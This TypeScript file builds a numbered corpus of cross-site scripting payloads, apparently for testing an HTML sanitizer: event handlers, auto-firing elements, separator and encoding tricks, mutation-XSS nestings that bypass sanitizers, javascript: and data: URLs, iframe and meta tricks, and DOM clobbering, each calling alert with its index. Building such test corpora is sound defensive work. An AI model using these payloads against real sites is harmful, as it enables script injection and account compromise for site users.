/** Texts that try to run `alert` with their own number, so that it can be told which of them did. */
export const payloads: readonly string[] = [
  ...handlers(),
  ...selfStarting(),
  ...separators(),
  ...nestings(),
  ...links(),
  ...documents(),
  ...clobbering(),
].map((write, number) => write(`alert(${number})`))

type Payload = (run: string) => string

function handlers(): Payload[] {
  const events = [
    'click',
    'mouseover',
    'pointerenter',
    'focus',
    'auxclick',
    'toggle',
    'animationstart',
    'wheel',
    'copy',
  ]
  const tags = ['p', 'a href="https://a.example"', 'span class="large"', 'div', 'li', 'td', 'b', 'custom-tag']
  return tags.flatMap((tag) =>
    events.map(
      (event): Payload =>
        (run) =>
          `<${tag} on${event}="${run}">x</${tag.split(' ')[0]}>`,
    ),
  )
}

function selfStarting(): Payload[] {
  return [
    (run) => `<script>${run}</script>`,
    (run) => `<script src="data:text/javascript,${run}"></script>`,
    (run) => `<script type="module">${run}</script>`,
    (run) => `<img src=x onerror=${run}>`,
    (run) => `<img srcset="x 1x" onerror=${run}>`,
    (run) => `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload=${run}>`,
    (run) => `<image src=x onerror=${run}>`,
    (run) => `<picture><source srcset=x><img onerror=${run}></picture>`,
    (run) => `<body onload=${run}>`,
    (run) => `<svg onload=${run}>`,
    (run) => `<svg><script>${run}</script></svg>`,
    (run) => `<svg><script href="data:text/javascript,${run}"/></svg>`,
    (run) => `<svg><animate onbegin=${run} attributeName=x dur=1s></svg>`,
    (run) => `<svg><set onbegin=${run} attributeName=x></svg>`,
    (run) => `<svg><image href=x onerror=${run}></svg>`,
    (run) => `<svg><style onload=${run}></style></svg>`,
    (run) =>
      `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${run}'/></svg>#x"/></svg>`,
    (run) => `<svg><foreignObject><img src=x onerror=${run}></foreignObject></svg>`,
    (run) => `<svg><desc><img src=x onerror=${run}></desc></svg>`,
    (run) => `<math><mi><img src=x onerror=${run}></mi></math>`,
    (run) => `<math><annotation-xml encoding="text/html"><img src=x onerror=${run}></annotation-xml></math>`,
    (run) => `<math><maction actiontype="statusline#http://a" href="javascript:${run}">x</maction></math>`,
    (run) => `<audio src=x onerror=${run}>`,
    (run) => `<video src=x onerror=${run}>`,
    (run) => `<video><source onerror=${run} src=x></video>`,
    (run) => `<video poster="javascript:${run}">`,
    (run) => `<input autofocus onfocus=${run}>`,
    (run) => `<select autofocus onfocus=${run}>`,
    (run) => `<textarea autofocus onfocus=${run}>`,
    (run) => `<button autofocus onfocus=${run}>x</button>`,
    (run) => `<details open ontoggle=${run}>x</details>`,
    (run) => `<dialog open onclose=${run}>x</dialog>`,
    (run) => `<div popover onbeforetoggle=${run}>x</div>`,
    (run) => `<marquee onstart=${run}>x</marquee>`,
    (run) => `<style onload=${run}></style>`,
    (run) => `<style>@import "data:text/css,x"</style><p onanimationstart=${run}>x</p>`,
    (run) => `<link rel=stylesheet href="data:text/css," onload=${run}>`,
    (run) => `<link rel=preload as=image href=x onerror=${run}>`,
    (run) => `<object data=x onerror=${run}></object>`,
    (run) => `<embed src="javascript:${run}">`,
    (run) => `<p contenteditable autofocus onfocus=${run}>x</p>`,
    (run) => `<p tabindex=0 autofocus onfocus=${run} id=x>x</p>`,
    (run) => `<p style="animation:x 1s" onanimationstart=${run}>x</p><style>@keyframes x{}</style>`,
    (run) => `<p style="background:url(javascript:${run})">x</p>`,
    (run) => `<p style="width:expression(${run})">x</p>`,
    (run) => `<a href="https://a.example" style="position:fixed;inset:0" onclick="${run}">x</a>`,
  ]
}

function separators(): Payload[] {
  const between = ['/', '\t', '\n', '\f', '\r', '//', ' / ', '"', "'", ' x=y ', '\u{a0}', ' \0']
  const cases = ['IMG SRC=x ONERROR', 'ImG sRc=x oNeRrOr', 'img src=x onerror\t', 'img src=x onerror\n']
  return [
    ...between.map(
      (separator): Payload =>
        (run) =>
          `<img${separator}src=x${separator}onerror=${run}>`,
    ),
    ...cases.map(
      (start): Payload =>
        (run) =>
          `<${start}=${run}>`,
    ),
    (run) => `<img src=x onerror=&#97;${run.slice(1)}>`,
    (run) => `<img src=x onerror="&#x61;${run.slice(1)}">`,
    (run) => `<img src=x onerror=${run}//`,
    (run) => `<img src=x onerror=${run}`,
    (run) => `<<img src=x onerror=${run}>`,
    (run) => `<img src="x" title="&quot; onerror=&quot;${run}" onerror=${run}>`,
    (run) => `<img src=\`x\` onerror=${run}>`,
    (run) => `<p title="\`><img src=x onerror=${run}>">x</p>`,
    (run) => `&lt;img src=x onerror=${run}&gt;`,
    (run) => `&amp;lt;img src=x onerror=${run}&amp;gt;`,
    (run) => `"><img src=x onerror=${run}>`,
    (run) => `'-->"><img src=x onerror=${run}>`,
    (run) => `<p class="large&quot; onclick=&quot;${run}">x</p>`,
    (run) => `<p class='arial" onclick="${run}'>x</p>`,
    (run) => `<p class="large" class="x" onclick=${run}>x</p>`,
    (run) => `<p\u{b}onclick=${run}>x</p>`,
  ]
}

/** Markup that is read one way and means another when it is read again. */
function nestings(): Payload[] {
  const outer = [
    'svg',
    'math',
    'svg><desc',
    'svg><title',
    'math><mtext',
    'math><mi',
    'template',
    'noscript',
    'table',
    'select',
  ]
  const swallowing = [
    'style',
    'title',
    'textarea',
    'xmp',
    'noembed',
    'noframes',
    'iframe',
    'noscript',
    'script',
    'option',
  ]
  return [
    ...outer.flatMap((tag) =>
      swallowing.slice(0, 6).map(
        (raw): Payload =>
          (run) =>
            `<${tag}><${raw}><p id="</${raw}><img src=x onerror=${run}>">`,
      ),
    ),
    ...swallowing.map(
      (raw): Payload =>
        (run) =>
          `<${raw}><p title="</${raw}><img src=x onerror=${run}>"></${raw}>`,
    ),
    (run) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
    (run) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
    (run) => `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
    (run) => `<math><mtext><table><mglyph><svg><mtext><style><path id="</style><img onerror=${run} src>">`,
    (run) => `<p><svg><style><!--</style><!-- --><img src=x onerror=${run}>--></svg>`,
    (run) => `<!--><img src=x onerror=${run}>-->`,
    (run) => `<!-- --!><img src=x onerror=${run}> -->`,
    (run) => `<!--[if IE]><img src=x onerror=${run}><![endif]-->`,
    (run) => `<![CDATA[<img src=x onerror=${run}>]]>`,
    (run) => `<svg><![CDATA[><img src=x onerror=${run}>]]></svg>`,
    (run) => `<?xml version="1.0"?><img src=x onerror=${run}>`,
    (run) => `<table><tr><td><form><table><img src=x onerror=${run}></table></form>`,
    (run) => `<table><a href="javascript:${run}">x</a><tr><td>x</table>`,
    (run) => `<p><table><p onclick=${run}>x</table>`,
    (run) => `<a href="https://a.example"><table><a href="javascript:${run}">x</a></table></a>`,
    (run) => `${'<b>'.repeat(600)}<img src=x onerror=${run}>`,
    (run) => `${'<div><table>'.repeat(300)}<img src=x onerror=${run}>`,
    (run) => `${'<svg><desc>'.repeat(200)}<style><p id="</style><img src=x onerror=${run}>">`,
    (run) => `<template><template><img src=x onerror=${run}></template></template>`,
    (run) => `<div><template shadowrootmode=open><img src=x onerror=${run}></template></div>`,
    (run) => `<template><script>${run}</script></template>`,
    (run) => `<frameset><frame src="javascript:${run}"></frameset>`,
    (run) => `<plaintext><img src=x onerror=${run}>`,
    (run) => `<listing>&lt;img src=x onerror=${run}&gt;</listing>`,
    (run) => `<p data-slate-fragment="${btoa('[null]')}"><img src=x onerror=${run}></p>`,
  ]
}

function links(): Payload[] {
  const addresses: Payload[] = [
    (run) => `javascript:${run}`,
    (run) => `JaVaScRiPt:${run}`,
    (run) => ` javascript:${run}`,
    (run) => `\u{1}javascript:${run}`,
    (run) => `java\tscript:${run}`,
    (run) => `java\nscript:${run}`,
    (run) => `javascript&colon;${run}`,
    (run) => `&#106;avascript:${run}`,
    (run) => `&#x6A;avascript:${run}`,
    (run) => `javascript://a.example/%0a${run}`,
    (run) => `vbscript:${run}`,
    (run) => `data:text/html,<script>${run}</script>`,
    (run) => `data:text/html;base64,${btoa(`<script>${run}</script>`)}`,
    (run) => `feed:javascript:${run}`,
    (run) => `https://a.example" onclick="${run}`,
    (run) => `mailto:a@a.example" onclick="${run}`,
  ]
  const holders: ((href: string) => string)[] = [
    (href) => `<a href="${href}">x</a>`,
    (href) => `<a href='${href}' target=_self>x</a>`,
    (href) => `<svg><a xlink:href="${href}"><text>x</text></a></svg>`,
    (href) => `<math href="${href}">x</math>`,
    (href) => `<form action="${href}"><button>x</button></form>`,
    (href) => `<button formaction="${href}">x</button>`,
    (href) => `<area href="${href}">`,
    (href) => `<iframe src="${href}"></iframe>`,
  ]
  return holders.flatMap((holder) =>
    addresses.map(
      (address): Payload =>
        (run) =>
          holder(address(run)),
    ),
  )
}

function documents(): Payload[] {
  return [
    (run) => `<iframe srcdoc="<script>${run}</script>"></iframe>`,
    (run) => `<iframe srcdoc="&lt;img src=x onerror=${run}&gt;"></iframe>`,
    (run) => `<iframe onload=${run}></iframe>`,
    (run) => `<iframe sandbox="allow-scripts" srcdoc="<script>${run}</script>"></iframe>`,
    (run) => `<object data="data:text/html,<script>${run}</script>"></object>`,
    (run) => `<embed src="data:text/html,<script>${run}</script>">`,
    (run) => `<meta http-equiv="refresh" content="0;url=javascript:${run}">`,
    (run) => `<meta http-equiv="refresh" content="0;url=data:text/html,<script>${run}</script>">`,
    (run) => `<meta http-equiv="Content-Security-Policy" content="script-src 'unsafe-inline'"><script>${run}</script>`,
    (run) => `<html><head><script>${run}</script></head><body onpageshow=${run}>x</body></html>`,
    (run) => `<!doctype html><img src=x onerror=${run}>`,
    (run) => `<portal src="javascript:${run}"></portal>`,
    (run) => `<fencedframe></fencedframe><img src=x onerror=${run}>`,
  ]
}

function clobbering(): Payload[] {
  return [
    (run) => `<form id=attributes><input name=attributes><img src=x onerror=${run}></form>`,
    (run) => `<form onclick=${run}><input name=nodeName><input name=childNodes></form>`,
    (run) => `<form><input name=parentNode><img src=x onerror=${run}></form>`,
    (run) => `<img name=trustedTypes src=x onerror=${run}>`,
    (run) => `<a id=document href="javascript:${run}">x</a>`,
    (run) => `<p id=root onclick=${run}>x</p>`,
    (run) => `<p is="x-y" slot="x" part="y" onclick=${run}>x</p>`,
  ]
}
